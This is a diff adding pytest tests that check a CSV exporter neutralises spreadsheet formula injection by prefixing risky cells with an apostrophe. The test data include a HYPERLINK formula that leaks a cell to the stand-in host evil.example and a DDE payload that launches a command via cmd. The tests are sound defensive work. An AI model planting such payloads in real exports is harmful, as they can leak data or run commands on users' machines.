@@ -283,3 +283,60 @@ def test_an_account_with_no_assets_says_so(memory_core: B2BCore) -> None:
     html = to_html(account, "x", memory_core.account_events(account), chain_status="OK")
 
     assert "No assets." in html
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tcalc",
+    "\rcalc",
+)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_csv_text_cell_starting_like_a_formula_is_written_as_text(
+    memory_core: B2BCore, formula: str
+) -> None:
+    account = register_account(memory_core, name="Other Co")
+    memory_core.change_account_attributes(
+        account, sector="rental", on=date(2024, 2, 1), reason=formula
+    )
+    text = to_csv(memory_core.account_events(account))
+
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+
+    assert rows[-1]["reason"] == "'" + formula
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
+def test_no_separator_in_a_csv_text_cell_can_start_a_formula(
+    memory_core: B2BCore, separator: str
+) -> None:
+    reason = f"renewed{separator}=cmd|' /C calc'!A0"
+    account = register_account(memory_core, name="Other Co")
+    memory_core.change_account_attributes(
+        account, sector="rental", on=date(2024, 2, 1), reason=reason
+    )
+
+    text = to_csv(memory_core.account_events(account))
+
+    # However a spreadsheet splits the file, no piece starts with "=".
+    pieces = re.split(r"[,;\t\n]", text)
+    assert not [piece for piece in pieces if piece.startswith("=")]
+    row = list(csv.DictReader(io.StringIO(text, newline="")))[-1]
+    assert row["reason"] == f"renewed{separator}'=cmd|' /C calc'!A0"
+
+
+def test_csv_numbers_are_bare_and_plain_text_is_unchanged(
+    memory_core: B2BCore,
+) -> None:
+    account = register_account(memory_core, name="Acme - Busan, 2nd office")
+
+    text = to_csv(memory_core.account_events(account))
+
+    assert text.splitlines()[1].startswith('1,"account",')
+    row = next(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["version"] == "1"
+    assert row["description"].startswith("Registered Acme - Busan, 2nd office (")
